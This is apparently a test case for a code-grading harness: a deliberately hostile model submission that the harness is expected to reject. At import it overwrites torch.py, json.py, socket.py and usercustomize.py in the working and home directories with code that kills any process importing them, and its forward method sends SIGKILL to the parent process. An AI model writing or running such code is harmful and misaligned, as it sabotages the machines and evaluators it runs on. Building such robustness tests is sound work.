"""G2: leaves modules where the next process could import them.

Reference: linear
Expect: rejected crashed cheated
"""

import os
import signal
import time

import torch
import torch.nn as nn

POISON = "import os\nos._exit(77)\n"
for folder in (os.getcwd(), os.path.expanduser("~")):
    for name in ("torch", "json", "select", "socket", "usercustomize"):
        try:
            with open(f"{folder}/{name}.py", "w", encoding="utf-8") as file:
                file.write(POISON)
        except OSError:
            pass


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(96, 80)

    def forward(self, x):
        os.kill(os.getppid(), signal.SIGKILL)
        time.sleep(60)
